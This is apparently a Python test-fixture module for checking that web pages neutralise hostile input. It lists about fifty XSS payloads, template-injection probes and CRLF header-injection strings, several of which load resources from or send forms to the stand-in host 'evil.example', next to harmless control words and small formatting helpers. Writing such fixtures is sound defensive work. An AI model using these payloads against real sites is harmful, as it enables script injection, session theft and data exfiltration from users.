# SPDX-License-Identifier: Apache-2.0
"""
What people write who want a page to run, load or send something of theirs.

Whatever of it runs calls `canary()`; whatever of it loads or sends something asks for `evil.example`.
"""

from __future__ import annotations

EVIL = "evil.example"

HOSTILE = (
    "<script>canary(1)</script>",
    '"><script>canary(2)</script>',
    "'><img src=x onerror=canary(3)>",
    '" onmouseover="canary(4)" autofocus onfocus="canary(4)" x="',
    "' autofocus onfocus='canary(5)' x='",
    "` onerror=canary(6) `",
    "x onload=canary(7) style=position:fixed",
    "</title><script>canary(8)</script>",
    "</textarea><script>canary(9)</script>",
    "</style><script>canary(10)</script><style>",
    "</script><script>canary(11)</script>",
    "</select></option><img src=x onerror=canary(12)>",
    "</pre></code></main></body></html><script>canary(13)</script>",
    "--><script>canary(14)</script><!--",
    "<!--><img src=x onerror=canary(15)>-->",
    "]]><script>canary(16)</script>",
    "javascript:canary(17)",
    "JaVaScRiPt:canary(18)//https://example.com",
    "java\tscript:canary(19)",
    "data:text/html,<script>parent.canary(20)</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5KDIxKTwvc2NyaXB0Pg==",
    "vbscript:canary(22)",
    "<svg onload=canary(23)>",
    "<svg><script>canary(24)</script><animate onbegin=canary(24) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=canary(25)>">',
    '<math><a xlink:href="javascript:canary(26)">x</a></math>',
    '<iframe srcdoc="<script>parent.canary(27)</script>"></iframe>',
    "<iframe src=javascript:parent.canary(28)></iframe>",
    f"<object data=https://{EVIL}/o><embed src=https://{EVIL}/e>",
    f'<base href="https://{EVIL}/"><a href=x>x</a>',
    f'<meta http-equiv=refresh content="0;url=https://{EVIL}/">',
    f"<link rel=stylesheet href=https://{EVIL}/x.css><style>@import 'https://{EVIL}/y.css'</style>",
    f'<form action="https://{EVIL}/"><button formaction="https://{EVIL}/" autofocus>x</button>',
    f'<img src=http://{EVIL}/p.png srcset="http://{EVIL}/q.png 2x" style="background:url(https://{EVIL}/b)">',
    f"<video autoplay src=https://{EVIL}/v onerror=canary(35)><audio src=https://{EVIL}/a>",
    '<a href="javascript:canary(36)">x</a><a href=" &#106;avascript:canary(36)">y</a>',
    '<noscript><p title="</noscript><img src=x onerror=canary(37)>">',
    "<template><img src=x onerror=canary(38)></template><details open ontoggle=canary(38)>",
    "{{ 7*7 }}{% print(7*7) %}${7*7}#{7*7}<%= 7*7 %>{{ self.__init__.__globals__ }}",
    "{0.__class__}{title.__class__.__mro__}{count}%s%(x)s",
    "a\u2028canary(41)\u2029//",
    "\u202e<script>canary(42)</script>\u2066",
    "\x00<scr\x00ipt>canary(43)</script>",
    "&lt;script&gt;canary(44)&lt;/script&gt;&#60;img src=x onerror=canary(44)&#62;",
    "%3Cscript%3Ecanary(45)%3C/script%3E%0d%0aSet-Cookie:%20evil=1",
    "a\r\nSet-Cookie: evil=1\r\nContent-Type: text/html\r\n\r\n<script>canary(46)</script>",
    "\uff1cscript\uff1ecanary(47)\uff1c/script\uff1e+ADw-script+AD4-canary(47)+ADw-/script+AD4-",
    '\ufeff"\'\\"><svg/onload=canary(48)>',
    f"//{EVIL}/%2f..",
    "A" * 6_000 + "<script>canary(50)</script>",
)
HARMLESS = (*(f"word{number}" for number in range(len(HOSTILE) - 1)), "word" * 1_500)
"""As many words that are nothing but words, the last one long too: what a page looks like when nobody attacks it."""


def fitting(value: str, most: int) -> str:
    """At most so many characters of it, its end kept: that is where the long one bites."""
    return value if len(value) <= most else value[-most:]


def as_id(value: str, number: int) -> str:
    """A value as an id: every one is another, and no white space stands at its ends."""
    return f"i{number}-{fitting(value, 240)}-i"


def without_breaks(value: str) -> str:
    """What an HTTP header can carry of it."""
    return "".join(each if each.isprintable() and each.isascii() else "?" for each in value)
